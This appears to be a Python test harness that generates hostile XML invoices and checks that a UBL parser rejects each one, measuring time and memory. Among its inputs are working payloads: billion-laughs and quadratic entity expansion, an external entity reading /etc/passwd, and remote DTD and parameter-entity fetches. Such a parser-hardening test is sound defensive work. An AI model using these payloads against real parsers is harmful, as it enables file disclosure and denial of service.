"""Files made to hurt whoever reads them, each by name; run as a program, it reads one and tells what came of it."""

from __future__ import annotations

import resource
import sys
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

MEBIBYTE = 2**20
INVOICE = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
CBC = "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"


def wrapped(content: str, before: str = "") -> bytes:
    """An invoice's root around anything."""
    return f'<?xml version="1.0"?>{before}<Invoice xmlns="{INVOICE}" xmlns:cbc="{CBC}">{content}</Invoice>'.encode()


def laughs(entity: str) -> bytes:
    levels = "".join(f'<!ENTITY l{n} "' + f"&l{n - 1};" * 10 + '">' for n in range(1, 12))
    return wrapped(f"<cbc:Note>{entity}</cbc:Note>", f'<!DOCTYPE Invoice [<!ENTITY l0 "ha">{levels}]>')


HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "billion laughs": ("ubl_doctype", lambda: laughs("&l11;")),
    "quadratic blow-up": (
        "ubl_doctype",
        lambda: wrapped(
            f"<cbc:Note>{'&a;' * 200_000}</cbc:Note>", f'<!DOCTYPE Invoice [<!ENTITY a "{"a" * 100_000}">]>'
        ),
    ),
    "entity in an attribute": (
        "ubl_doctype",
        lambda: b'<!DOCTYPE Invoice [<!ENTITY a "x">]><Invoice a="&a;"/>',
    ),
    "external entity": (
        "ubl_doctype",
        lambda: wrapped("<cbc:Note>&x;</cbc:Note>", '<!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    ),
    "external DTD": ("ubl_doctype", lambda: wrapped("", '<!DOCTYPE Invoice SYSTEM "http://192.0.2.1/never.dtd">')),
    "parameter entity": (
        "ubl_doctype",
        lambda: wrapped("", '<!DOCTYPE Invoice [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]>'),
    ),
    "entity without a DOCTYPE": ("ubl_well_formed", lambda: wrapped("<cbc:Note>&x;</cbc:Note>")),
    "50 MB": ("ubl_size", lambda: wrapped(f"<cbc:Note>{'a' * 50 * MEBIBYTE}</cbc:Note>")),
    "one byte too many": ("ubl_size", lambda: b" " * (16 * MEBIBYTE + 1)),
    "huge text": ("ubl_well_formed", lambda: wrapped(f"<cbc:Note>{'a' * 15 * MEBIBYTE}</cbc:Note>")),
    "huge attribute": ("ubl_well_formed", lambda: wrapped(f'<cbc:Note languageID="{"a" * 15 * MEBIBYTE}"/>')),
    "huge comment": ("ubl_well_formed", lambda: wrapped(f"<!--{'a' * 15 * MEBIBYTE}-->")),
    "deep": ("ubl_depth", lambda: wrapped("<a>" * 1_000_000)),
    "many elements": ("ubl_count", lambda: wrapped("<a/>" * 4_000_000)),
    "many comments": ("ubl_count", lambda: wrapped("<!---->" * 2_000_000)),
    "many instructions": ("ubl_count", lambda: wrapped("<?a?>" * 3_000_000)),
    "many attributes": ("ubl_count", lambda: wrapped("<a " + " ".join(f'a{n}=""' for n in range(1_000_000)) + "/>")),
    "many namespaces": (
        "ubl_count",
        lambda: wrapped("".join(f'<a xmlns:n{n}="u"/>' for n in range(700_000))),
    ),
    "many namespaces of one element": (
        "ubl_well_formed",
        lambda: wrapped("<a " + " ".join(f'xmlns:n{n}="u"' for n in range(700_000)) + "/>"),
    ),
    "many names": ("ubl_count", lambda: wrapped("".join(f"<n{n}/>" for n in range(1_200_000)))),
    "cut off": ("ubl_well_formed", lambda: wrapped("")[:-4]),
    "empty": ("ubl_well_formed", lambda: b""),
    "no XML": ("ubl_well_formed", lambda: bytes(range(256)) * 1000),
    "unknown encoding": ("ubl_well_formed", lambda: b'<?xml version="1.0" encoding="x-none"?><Invoice/>'),
    "DOCTYPE in UTF-7": (
        "ubl_doctype",
        lambda: b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE Invoice+AD4-<Invoice/>',
    ),
    "another document": ("ubl_root", lambda: b"<CreditNote/>"),
}


def main() -> None:
    from platform_db.errors import RuleViolation
    from platform_db.ubl import read

    _, made = HOSTILE[sys.argv[1]]
    xml = made()
    before = resource.getrusage(resource.RUSAGE_SELF)
    try:
        read(xml)
        rule = "read"
    except RuleViolation as refusal:
        rule = refusal.rule
    after = resource.getrusage(resource.RUSAGE_SELF)
    seconds = after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime
    print(rule, f"{seconds:.2f}", (after.ru_maxrss - before.ru_maxrss) // 1024)  # noqa: T201 - its answer


if __name__ == "__main__":
    main()
